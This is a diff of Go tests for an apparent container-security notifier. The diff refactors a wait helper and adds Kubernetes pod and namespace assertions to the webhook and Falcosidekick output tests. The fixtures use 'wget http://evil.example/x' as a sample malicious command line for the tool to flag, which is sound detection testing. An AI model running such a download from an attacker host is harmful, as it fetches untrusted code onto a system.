@@ -11,6 +11,7 @@ import (
 	"time"
 
 	"github.com/containsec/contain/internal/falcojson"
+	"github.com/containsec/contain/internal/testenv"
 	"github.com/containsec/contain/schemas/containv1"
 )
 
@@ -29,13 +30,13 @@ func TestWebhookOutput(t *testing.T) {
 	alert := alertEvent(0.95)
 	low := alertEvent(0.2)
 	publish(t, js, containv1.AlertsSubject(testHost), alert, low)
-	waitFor(t, 10*time.Second, "the alert", func() bool { return rcv.len() >= 1 })
+	testenv.WaitFor(t, 10*time.Second, "the alert", func() bool { return rcv.len() >= 1 })
 	publish(t, js, containv1.ActionsSubject(testHost),
 		actionEvent(alert, containv1.Action_TYPE_PAUSE, containv1.Action_RESULT_OK, snapshotDetail),
 		actionEvent(low, containv1.Action_TYPE_PAUSE, containv1.Action_RESULT_SKIPPED, `{"decision":"below threshold"}`),
 		actionEvent(alert, containv1.Action_TYPE_RELEASE, containv1.Action_RESULT_OK, `{"decision":"released"}`),
 		actionEvent(alert, containv1.Action_TYPE_PAUSE, containv1.Action_RESULT_FAILED, `{"decision":"refused: not a container: cgroup /"}`))
-	waitFor(t, 10*time.Second, "4 notifications", func() bool { return rcv.len() >= 4 })
+	testenv.WaitFor(t, 10*time.Second, "4 notifications", func() bool { return rcv.len() >= 4 })
 	time.Sleep(300 * time.Millisecond)
 	got := decoded[Notification](t, rcv)
 	if len(got) != 4 {
@@ -60,6 +61,8 @@ func TestWebhookOutput(t *testing.T) {
 		t.Errorf("quarantine lacks the process: %+v", q.Process)
 	case q.Snapshot == nil || q.Snapshot.Processes != 2 || q.Snapshot.Sockets != 1 || q.Snapshot.ChangedFiles != 1 || !strings.Contains(q.Snapshot.Top[0], "wget http://evil.example/x"):
 		t.Errorf("quarantine snapshot summary: %+v", q.Snapshot)
+	case q.Container.Pod != "web-7d4b9c8f6d-x2x9q" || q.Container.Namespace != "shop" || q.Container.Labels["app"] != "web":
+		t.Errorf("quarantine lacks the pod: %+v", q.Container)
 	case q.ReleaseCommand != "contain release "+testContainer+" --reason 'REASON'":
 		t.Errorf("release command: %q", q.ReleaseCommand)
 	case q.Action == nil || q.Action.Actor != "responder@"+testHost || q.Action.LatencyMs != 7:
@@ -95,7 +98,7 @@ func TestSlackPayload(t *testing.T) {
 	publish(t, js, containv1.AlertsSubject(testHost), alert)
 	time.Sleep(200 * time.Millisecond) // the alert is kept for its action
 	publish(t, js, containv1.ActionsSubject(testHost), actionEvent(alert, containv1.Action_TYPE_PAUSE, containv1.Action_RESULT_OK, snapshotDetail))
-	waitFor(t, 10*time.Second, "the slack message", func() bool { return rcv.len() >= 1 })
+	testenv.WaitFor(t, 10*time.Second, "the slack message", func() bool { return rcv.len() >= 1 })
 	time.Sleep(200 * time.Millisecond)
 	msgs := decoded[Slack](t, rcv)
 	if len(msgs) != 1 {
@@ -127,7 +130,7 @@ func TestFalcosidekickOutput(t *testing.T) {
 	nf, _ := runNotifier(t, js, Config{Alerts: true, Outputs: []OutputConfig{{Name: "sidekick", Type: TypeFalcosidekick, URL: srv.URL + "/"}}})
 	alert := alertEvent(0.95)
 	publish(t, js, containv1.AlertsSubject(testHost), alert)
-	waitFor(t, 10*time.Second, "the falco event", func() bool { return rcv.len() >= 1 })
+	testenv.WaitFor(t, 10*time.Second, "the falco event", func() bool { return rcv.len() >= 1 })
 	rcv.mu.Lock()
 	body := rcv.bodies[containv1.FormatID(alert.Id)][0]
 	rcv.mu.Unlock()
@@ -141,6 +144,8 @@ func TestFalcosidekickOutput(t *testing.T) {
 		t.Errorf("falco event: %+v", e)
 	case !strings.Contains(e.Output, "exec.unseen") || e.Time.IsZero():
 		t.Errorf("output %q time %v", e.Output, e.Time)
+	case f["k8s.pod.name"] != "web-7d4b9c8f6d-x2x9q" || f["k8s.ns.name"] != "shop" || f["container.label[app]"] != "web":
+		t.Errorf("kubernetes output_fields: %v", f)
 	case f["container.id"] != testContainer || f["proc.name"] != "wget" || f["proc.cmdline"] != "wget http://evil.example/x" || f["contain.score"] != 0.95:
 		t.Errorf("output_fields: %v", f)
 	case strings.Join(e.Tags, ",") != "contain,alert,T1059,T1105":
@@ -181,7 +186,7 @@ func TestReceiverDownLosesNothing(t *testing.T) {
 		want[containv1.FormatID(a.Id)] = true
 		publish(t, js, containv1.AlertsSubject(testHost), a)
 	}
-	waitFor(t, 10*time.Second, "a failed delivery", func() bool { _, f, _ := nf.count("flaky"); return f > 0 })
+	testenv.WaitFor(t, 10*time.Second, "a failed delivery", func() bool { _, f, _ := nf.count("flaky"); return f > 0 })
 	time.Sleep(outage)
 	if d, _, dr := nf.count("flaky"); d != 0 || dr != 0 {
 		t.Fatalf("while the receiver is down: delivered %v dropped %v", d, dr)
@@ -189,11 +194,11 @@ func TestReceiverDownLosesNothing(t *testing.T) {
 
 	rcv := newReceiver()
 	var ln2 net.Listener
-	waitFor(t, 5*time.Second, "the receiver's port", func() bool { ln2, err = net.Listen("tcp", addr); return err == nil })
+	testenv.WaitFor(t, 5*time.Second, "the receiver's port", func() bool { ln2, err = net.Listen("tcp", addr); return err == nil })
 	srv := &http.Server{Handler: rcv, ReadHeaderTimeout: time.Second}
 	go func() { _ = srv.Serve(ln2) }()
 	defer srv.Close()
-	waitFor(t, outage+60*time.Second, "every message", func() bool { return rcv.len() >= n })
+	testenv.WaitFor(t, outage+60*time.Second, "every message", func() bool { return rcv.len() >= n })
 	// Nothing more arrives: each was delivered once.
 	time.Sleep(time.Second)
 	rcv.mu.Lock()
@@ -214,7 +219,7 @@ func TestReceiverDownLosesNothing(t *testing.T) {
 		t.Errorf("counters: delivered %v (want %d) failed %v (want > 0) dropped %v (want 0)", d, n, f, dr)
 	}
 	// Every message was acknowledged.
-	waitFor(t, 10*time.Second, "no unacknowledged alerts", func() bool {
+	testenv.WaitFor(t, 10*time.Second, "no unacknowledged alerts", func() bool {
 		c, err := js.Consumer(context.Background(), containv1.StreamAlerts, "notify-alerts")
 		if err != nil {
 			return false
@@ -244,7 +249,7 @@ func TestQueueFullDropsCounted(t *testing.T) {
 		evs = append(evs, alertEvent(0.9))
 	}
 	publish(t, js, containv1.AlertsSubject(testHost), evs...)
-	waitFor(t, 10*time.Second, "the fast output", func() bool { return rcv.len() >= 5 })
+	testenv.WaitFor(t, 10*time.Second, "the fast output", func() bool { return rcv.len() >= 5 })
 	_, _, dropped := nf.count("slow")
 	if dropped < 3 {
 		t.Errorf("slow output dropped %v, want >= 3 of 5 (queue 1, one in flight)", dropped)
